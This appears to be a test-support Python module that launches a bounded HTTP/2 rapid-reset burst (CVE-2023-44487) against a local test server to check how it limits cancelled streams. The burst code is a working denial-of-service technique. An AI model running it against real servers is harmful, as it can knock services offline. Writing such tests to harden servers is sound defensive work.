"""An HTTP/2 rapid-reset burst (CVE-2023-44487), run in its own process so
that its CPU and the GIL do not disturb the client a test measures:

    python -m tests.support.rapid_reset --port 8443 --server-name app.test \
        --cafile ca.crt --source 127.0.0.2 --connections 5 --streams 1000 --path /

Each connection opens `--streams` complete GET requests (HEADERS with
END_STREAM) and cancels each one at once (RST_STREAM), in batches without
waiting for any answer. Prints one JSON line: streams sent and seconds taken.
Bounded: the counts above, and a 10 s socket timeout.
"""

from __future__ import annotations

import argparse
import json
import ssl
import struct
import threading
import time

from tests.support import h2frames

BATCH = 100


def burst(port, server_name, cafile, source, streams, path, sent):
    context = ssl.create_default_context(cafile=cafile)
    with h2frames.connect(port, server_name, context, source=source) as tls:
        tls.settimeout(10)
        block = h2frames.header_block((":method", "GET"), (":scheme", "https"),
                                      (":path", path), (":authority", server_name))
        cancel = struct.pack(">I", h2frames.CANCEL)
        stream = 1
        try:
            for start in range(0, streams, BATCH):
                data = b""
                for _ in range(min(BATCH, streams - start)):
                    data += (h2frames.frame(h2frames.HEADERS,
                                            h2frames.END_HEADERS | h2frames.END_STREAM,
                                            stream, block)
                             + h2frames.frame(h2frames.RST_STREAM, 0, stream, cancel))
                    stream += 2
                tls.sendall(data)
                sent.append(min(BATCH, streams - start))
                drain(tls)
        except OSError:
            pass  # nginx closed the connection (GOAWAY): the burst ends there


def drain(tls):
    """Read what nginx sent so far (SETTINGS, 429s) without waiting for more."""
    tls.setblocking(False)
    try:
        while tls.recv(65536):
            pass
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        tls.setblocking(True)
        tls.settimeout(10)


def main(argv=None):
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--server-name", required=True)
    p.add_argument("--cafile", required=True)
    p.add_argument("--source", default="127.0.0.2")
    p.add_argument("--connections", type=int, default=5)
    p.add_argument("--streams", type=int, default=1000)
    p.add_argument("--path", default="/")
    opts = p.parse_args(argv)
    sent: list[int] = []
    threads = [threading.Thread(target=burst, args=(opts.port, opts.server_name, opts.cafile,
                                                    opts.source, opts.streams, opts.path, sent))
               for _ in range(opts.connections)]
    started = time.monotonic()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    print(json.dumps({"streams": sum(sent), "seconds": round(time.monotonic() - started, 3)}))


if __name__ == "__main__":
    main()
